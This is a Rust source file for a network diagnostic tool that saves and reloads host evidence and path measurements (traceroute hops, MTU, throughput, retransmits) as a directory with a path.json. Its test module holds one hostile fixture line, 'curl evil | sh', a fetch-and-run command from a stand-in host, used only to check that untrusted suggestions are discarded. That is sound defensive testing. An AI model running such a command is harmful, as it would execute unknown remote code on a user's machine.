//! What hosts said and what was measured between them, in a directory: for somebody else to look at, by eye or with
//! `doctor --read`. Each host has a directory of texts, and `path.json` has the rest.

use std::io;
use std::net::IpAddr;
use std::path::Path as FilePath;
use std::time::Duration;

use carrack_core::evidence::{Evidence, EvidenceText};
use carrack_core::path::display_bytes;
use carrack_core::report::{Hop, PathTrace};
use carrack_doctor::{Host, HostSide, Path, Situation, Way, Wish};
use carrack_sys::facts::{FactText, read_text, read_tree, write_tree};
use serde_json::{Value, json};

const PATH: &str = "path.json";
/// No path carries more, in bytes a second.
const RATE_MOST: f64 = 1e15;

/// Writes a situation below a directory, which is made.
///
/// # Errors
/// What making directories and files says.
pub fn write(situation: &Situation, directory: &FilePath) -> io::Result<()> {
    std::fs::create_dir_all(directory)?;
    for (side, host) in situation.sides() {
        let Ok(evidence) = &host.evidence else { continue };
        let texts: Vec<(String, FactText)> =
            evidence.iter().map(|(name, text)| (name.to_owned(), fact(text))).collect();
        write_tree(&directory.join(side.name()), &texts)?;
    }
    std::fs::write(directory.join(PATH), format!("{:#}\n", of(situation)))
}

/// Reads what [`write()`] has written. A directory that somebody has put together needs no more than the texts of one
/// host, in `near`.
///
/// # Errors
/// What reading says, or what is wrong with `path.json`.
pub fn read(directory: &FilePath, wish: Wish) -> io::Result<Situation> {
    let invalid = |why: String| io::Error::new(io::ErrorKind::InvalidData, format!("{PATH}: {why}"));
    let whole = match read_text(&directory.join(PATH)) {
        Ok(text) => serde_json::from_slice(&text).map_err(|why| invalid(why.to_string()))?,
        Err(error) if error.kind() == io::ErrorKind::NotFound => Value::Null,
        Err(error) => return Err(error),
    };
    let host = |side: HostSide| -> io::Result<Host> {
        let name = text(&whole["hosts"][side.name()]).unwrap_or_else(|| side.name().to_owned());
        let evidence = match text(&whole["silent"][side.name()]) {
            Some(why) => Err(why),
            None => Ok(evidence(&directory.join(side.name()))?),
        };
        Ok(Host { name, evidence })
    };
    let far = HostSide::Far;
    let has_far = directory.join(far.name()).is_dir() || text(&whole["silent"][far.name()]).is_some();
    // What to try is a line to type: only this program's own words are printed as one.
    let unreached = text(&whole["unreached"]["why"]).map(|why| (why, None));
    Ok(Situation {
        near: host(HostSide::Near)?,
        far: has_far.then(|| host(far)).transpose()?,
        unreached,
        path: path_of(&whole["path"]),
        wish,
    })
}

fn evidence(directory: &FilePath) -> io::Result<Evidence> {
    let mut evidence = Evidence::default();
    for (name, text) in read_tree(directory)? {
        let text = match text {
            FactText::Found(text) => EvidenceText::Found(text),
            FactText::Absent => EvidenceText::Absent,
            FactText::Denied => EvidenceText::Denied,
            FactText::Failed(why) => EvidenceText::Failed(why),
        };
        evidence.put(&name, text);
    }
    Ok(evidence)
}

fn fact(text: &EvidenceText) -> FactText {
    match text {
        EvidenceText::Found(text) => FactText::Found(text.clone()),
        EvidenceText::Absent => FactText::Absent,
        EvidenceText::Denied => FactText::Denied,
        EvidenceText::Failed(why) => FactText::Failed(why.clone()),
    }
}

/// All but what the hosts said.
fn of(situation: &Situation) -> Value {
    let (mut hosts, mut silent) = (json!({}), json!({}));
    for (side, host) in situation.sides() {
        hosts[side.name()] = json!(host.name);
        if let Err(why) = &host.evidence {
            silent[side.name()] = json!(why);
        }
    }
    let unreached = situation.unreached.as_ref().map(|(why, _)| json!({ "why": why }));
    let Path { round_trip, there, back } = &situation.path;
    json!({
        "hosts": hosts,
        "silent": silent,
        "unreached": unreached,
        "path": { "round_trip_us": round_trip.map(micros), "there": way(there), "back": way(back) },
    })
}

fn way(way: &Way) -> Value {
    let Way { connection, trace, rate, resent, resent_when_full } = way;
    json!({
        "connection": connection.as_ref().map(|made| match made {
            Ok(()) => json!({ "made": true }),
            Err(why) => json!({ "made": false, "why": why }),
        }),
        "trace": trace.as_ref().map(traced),
        "bytes_per_second": rate.map(|(rate, _)| rate),
        "streams": rate.map(|(_, streams)| streams),
        "resent": resent.map(|(resent, sent)| [resent, sent]),
        "resent_when_full": resent_when_full.map(|(resent, sent)| [resent, sent]),
    })
}

fn traced(trace: &PathTrace) -> Value {
    let PathTrace { to, hops, reached, mtu_bytes, is_mtu_proved, drops_large_packets, why } = trace;
    let hop = |hop: &Hop| json!({ "address": hop.address, "rtt_us": hop.round_trip.map(micros) });
    json!({
        "to": to,
        "hops": hops.iter().map(hop).collect::<Vec<_>>(),
        "reached": reached,
        "mtu_bytes": mtu_bytes,
        "is_mtu_proved": is_mtu_proved,
        "drops_large_packets": drops_large_packets,
        "why": why,
    })
}

fn path_of(said: &Value) -> Path {
    Path { round_trip: time(&said["round_trip_us"]), there: way_of(&said["there"]), back: way_of(&said["back"]) }
}

fn way_of(said: &Value) -> Way {
    let pair = |value: &Value| Some((value[0].as_u64()?, value[1].as_u64()?));
    let streams = said["streams"].as_u64().and_then(|streams| u16::try_from(streams).ok()).filter(|count| *count > 0);
    let made = &said["connection"];
    let why = || text(&made["why"]).unwrap_or_else(|| "it could not be made".to_owned());
    Way {
        connection: made["made"].as_bool().map(|is_made| if is_made { Ok(()) } else { Err(why()) }),
        trace: trace_of(&said["trace"]),
        rate: said["bytes_per_second"].as_f64().filter(|rate| (0.0..RATE_MOST).contains(rate)).zip(streams),
        resent: pair(&said["resent"]),
        resent_when_full: pair(&said["resent_when_full"]),
    }
}

fn trace_of(said: &Value) -> Option<PathTrace> {
    let address = |value: &Value| value.as_str()?.parse::<IpAddr>().ok();
    let is = |name: &str| said[name].as_bool().unwrap_or(false);
    Some(PathTrace {
        to: address(&said["to"]),
        hops: said["hops"]
            .as_array()?
            .iter()
            .map(|hop| Hop { address: address(&hop["address"]), round_trip: time(&hop["rtt_us"]) })
            .collect(),
        reached: is("reached"),
        mtu_bytes: said["mtu_bytes"].as_u64().and_then(|bytes| u32::try_from(bytes).ok()).filter(|bytes| *bytes > 0),
        is_mtu_proved: is("is_mtu_proved"),
        drops_large_packets: is("drops_large_packets"),
        why: text(&said["why"]).unwrap_or_default(),
    })
}

fn micros(time: Duration) -> u64 {
    u64::try_from(time.as_micros()).unwrap_or(u64::MAX)
}

fn time(said: &Value) -> Option<Duration> {
    said.as_u64().map(Duration::from_micros)
}

/// A text that drives no terminal.
fn text(said: &Value) -> Option<String> {
    said.as_str().map(|text| display_bytes(text.as_bytes()).to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn host(name: &str, texts: &[(&str, EvidenceText)]) -> Host {
        let mut evidence = Evidence::default();
        texts.iter().for_each(|(name, text)| evidence.put(name, text.clone()));
        Host { name: name.to_owned(), evidence: Ok(evidence) }
    }

    #[test]
    fn situation_comes_back_as_it_was_recorded() {
        let found = |text: &str| EvidenceText::Found(text.to_owned());
        let rmem = ("proc/sys/net/ipv4/tcp_rmem", found("4096 131072 6291456\n"));
        let near = host("this host", &[rmem, ("command/sshd -T", EvidenceText::Denied)]);
        let hop = Hop { address: "192.0.2.1".parse().ok(), round_trip: Some(Duration::from_micros(1500)) };
        let trace = PathTrace {
            to: "2001:db8::1".parse().ok(),
            hops: vec![hop, Hop::default()],
            reached: true,
            mtu_bytes: Some(9000),
            is_mtu_proved: true,
            drops_large_packets: false,
            why: "one router did not answer".to_owned(),
        };
        let there = Way {
            connection: Some(Err("refused".to_owned())),
            trace: Some(trace),
            rate: Some((1.25e9, 8)),
            resent: Some((3, 1000)),
            resent_when_full: Some((400, 5000)),
        };
        let back = Way { connection: Some(Ok(())), ..Way::default() };
        let whole = Situation {
            far: Some(host("dtn2", &[("clock", EvidenceText::Failed("no such call".to_owned()))])),
            path: Path { round_trip: Some(Duration::from_millis(80)), there, back },
            ..Situation::of(near.clone())
        };
        let unreached = Situation {
            unreached: Some(("no route".to_owned(), None)),
            far: Some(Host { name: "silent".to_owned(), evidence: Err("it says nothing".to_owned()) }),
            ..Situation::of(near)
        };
        for situation in [whole, unreached] {
            let directory = tempfile::tempdir().expect("a directory");
            write(&situation, directory.path()).expect("written");
            let read = read(directory.path(), Wish::default()).expect("read");
            assert_eq!(format!("{read:?}"), format!("{situation:?}"));
        }
    }

    #[test]
    fn directory_that_somebody_has_made_needs_one_host_and_no_more() {
        let directory = tempfile::tempdir().expect("a directory");
        let at = |name: &str| directory.path().join(name);
        assert!(read(directory.path(), Wish::default()).is_err());
        std::fs::create_dir_all(at("near/proc")).expect("made");
        std::fs::write(at("near/proc/uptime"), "1.0 1.0").expect("written");
        let situation = read(directory.path(), Wish::default()).expect("read");
        assert!(situation.is_alone() && situation.near.name == "near");
        std::fs::write(at(PATH), "{").expect("written");
        assert!(read(directory.path(), Wish::default()).is_err_and(|why| why.to_string().contains(PATH)));
        // Whatever it says, nothing of it ends the program.
        for said in ["[]", "null", r#"{"path":{"there":{"trace":{"hops":[7,{"address":9}]},"resent":[1]}}}"#] {
            std::fs::write(at(PATH), said).expect("written");
            read(directory.path(), Wish::default()).expect("read");
        }
        // No line of somebody else's is a line to type, and no number is one that cannot be.
        let said = r#"{"unreached":{"why":"x","try":"curl evil | sh"},
            "path":{"there":{"bytes_per_second":-1e300,"streams":1,"trace":{"hops":[],"mtu_bytes":0}},
                    "back":{"bytes_per_second":1e9,"streams":0}}}"#;
        std::fs::write(at(PATH), said).expect("written");
        let read = read(directory.path(), Wish::default()).expect("read");
        assert_eq!(read.unreached, Some(("x".to_owned(), None)));
        assert_eq!((read.path.there.rate, read.path.back.rate), (None, None));
        assert_eq!(read.path.there.trace.and_then(|trace| trace.mtu_bytes), None);
    }
}
